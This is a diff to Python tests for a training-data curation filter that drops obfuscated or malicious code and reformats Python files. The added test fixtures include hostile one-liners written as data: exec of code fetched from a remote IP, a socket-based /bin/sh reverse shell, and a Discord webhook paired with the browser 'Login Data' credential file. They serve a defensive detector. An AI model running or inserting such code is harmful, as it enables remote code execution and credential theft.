@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import base64
 import json
+from dataclasses import replace
 from typing import TYPE_CHECKING
 
 import numpy as np
@@ -14,6 +15,7 @@ from python_slm_training.collect.record import Metadata, Record
 from python_slm_training.curate import privacy, quality
 from python_slm_training.curate.clean import Rules, fingerprint, judge
 from python_slm_training.curate.contamination import Benchmarks
+from python_slm_training.curate.formatting import formatted
 from python_slm_training.curate.words import ngrams, word_hashes
 from python_slm_training.reserved import is_reserved_path, is_reserved_project, load_reserved
 
@@ -34,6 +36,10 @@ def read_settings(path):
 
 def record(text: str = ORDINARY, path: str = "pkg/a.py", repo: str = "owner/name", licence: str = "MIT") -> Record:
     return Record(text, f"{repo}:{path}", Metadata("git", repo, path, "0", licence, "2026-01-01", None))
+
+
+def replace_content(each: Record, content: str) -> Record:
+    return replace(each, metadata=replace(each.metadata, content=content))
 
 
 def dropped(text: str = ORDINARY, rules: Rules | None = None, **about: str) -> str | None:
@@ -58,6 +64,14 @@ def test_ordinary_code_passes_unchanged() -> None:
         (("a = [" + "b + c, " * 20 + "]\n") * 4, "a.py", "minified"),
         (ORDINARY + "exec(base64.b64decode('YQ=='))\n", "a.py", "obfuscated"),
         (ORDINARY + "_0x1f2e = 3\n", "a.py", "obfuscated"),
+        (ORDINARY + "exec(requests.get('http://203.0.113.5/a').text)\n", "a.py", "malicious"),
+        (ORDINARY + "exec(compile(urllib.request.urlopen(url).read(), 'a', 'exec'))\n", "a.py", "malicious"),
+        (
+            ORDINARY + "s = socket.socket()\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nrun('/bin/sh')\n",
+            "a.py",
+            "malicious",
+        ),
+        (ORDINARY + "BOX = 'https://discord.com/api/webhooks/1/x'\nDB = 'Login Data'\n", "a.py", "malicious"),
         (ORDINARY + f"DATA = '{base64.b64encode(bytes(300)).decode()}'\n", "a.py", "data"),
         ("TABLE = [\n" + "    12, 345, 6789, 1011, 1213,\n" * 50 + "]\n", "a.py", "data"),
         (ORDINARY + "B = (\n" + '    b"\\x00\\x01\\x02\\x03"\n' * 40 + ")\n", "a.py", "data"),
@@ -111,6 +125,17 @@ def test_reserved_projects_and_vendored_copies_are_dropped(tmp_path: Path) -> No
 def test_reserved_names_ignore_owner_case_and_separators() -> None:
     assert is_reserved_project("Someone/Magic_Wormhole", frozenset({"magic-wormhole"}))
     assert not is_reserved_path("wormholes/a.py", frozenset({"wormhole"}))
+
+
+def test_downloads_shells_and_duplicated_files_alone_are_no_malware() -> None:
+    assert dropped(ORDINARY + "page = requests.get(url).text\nexec(code)\nos.dup2(log.fileno(), 1)\n") is None
+    assert dropped(ORDINARY + "subprocess.run(['/bin/sh', '-c', line])\nos.dup2(a, 0)\nos.dup2(b, 1)\n") is None
+
+
+def test_code_is_formatted_and_all_else_left_alone() -> None:
+    records = [record("x = {  'a':1 }\n"), record("not python (\n"), replace_content(record("a   'b'\n"), "prose")]
+    assert [each.text for each in formatted(records)] == ['x = {"a": 1}\n', "not python (\n", "a   'b'\n"]
+    assert Rules(style="ruff").digest != Rules().digest
 
 
 @pytest.mark.parametrize(
